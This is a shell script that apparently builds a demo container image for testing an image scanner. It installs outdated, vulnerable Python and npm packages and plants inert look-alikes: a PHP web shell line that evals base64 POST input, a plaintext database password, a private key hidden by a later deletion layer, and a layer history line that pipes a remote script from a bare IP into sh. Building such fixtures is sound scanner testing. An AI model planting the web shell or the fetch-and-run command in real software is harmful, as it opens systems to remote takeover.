#!/bin/sh
# Makes the demo image: a minimal Debian, old Python wheels, old npm packages, and a layer of things that
# should not be there: a look-alike of a web shell, a password, a key that the last layer deletes.
# Every part comes from the package registries; no image registry and no engine is needed.
# Usage: demo-image.sh OUT.tar      (kept when it is already there)
set -eu
out=$1
[ -s "$out" ] && exit 0
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT INT TERM
mkdir -p "$(dirname "$out")"

echo "demo image: a minimal Debian 12" >&2
mmdebstrap --quiet --variant=essential --include=openssl,ca-certificates bookworm "$work/debian.tar"

echo "demo image: old Python packages" >&2
site="$work/python/usr/local/lib/python3.11/site-packages"
mkdir -p "$site"
pip_flags="--quiet --disable-pip-version-check --no-deps --only-binary :all: --target $site"
# shellcheck disable=SC2086
PIP_ROOT_USER_ACTION=ignore python3 -m pip install $pip_flags \
    jinja2==2.10 urllib3==1.24.1 requests==2.19.1 Django==2.2 Werkzeug==0.14.1

echo "demo image: old npm packages" >&2
mkdir -p "$work/node/srv/app/node_modules"
for package in lodash@4.17.4 minimist@0.0.8 handlebars@4.0.11; do
    (cd "$work" && npm pack --silent "$package" >/dev/null)
    name=${package%@*}
    mkdir -p "$work/node/srv/app/node_modules/$name"
    tar -xzf "$work/$name-${package#*@}.tgz" --strip-components=1 -C "$work/node/srv/app/node_modules/$name"
done

echo "demo image: things that should not be in an image (inert look-alikes)" >&2
mkdir -p "$work/shop/srv/www" "$work/shop/srv/app/tls"
# A page that reads like a web shell. Nothing in the demo runs it.
printf '<?php\n// status\n@eval(base64_decode($_POST["q"]));\n' >"$work/shop/srv/www/status.php"
printf 'DB_PASSWORD=kV9-tram-Quartz-77\nLOG_LEVEL=info\n' >"$work/shop/srv/app/.env"
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=shop.lazaret.example \
    -keyout "$work/shop/srv/app/tls/server.key" -out "$work/shop/srv/app/tls/server.crt" 2>/dev/null
mkdir -p "$work/cleanup/srv/app/tls"
: >"$work/cleanup/srv/app/tls/.wh.server.key"

cargo xtask image "$out" demo.lazaret.example/shop:1.0 \
    "$work/debian.tar=/bin/sh -c #(nop) ADD file:bookworm in / " \
    "$work/python=RUN pip install jinja2==2.10 urllib3==1.24.1 requests==2.19.1 Django==2.2 Werkzeug==0.14.1" \
    "$work/node=RUN npm install lodash@4.17.4 minimist@0.0.8 handlebars@4.0.11" \
    "$work/shop=RUN curl -fsSL http://203.0.113.7/shop.sh | sh" \
    "$work/cleanup=RUN rm /srv/app/tls/server.key"
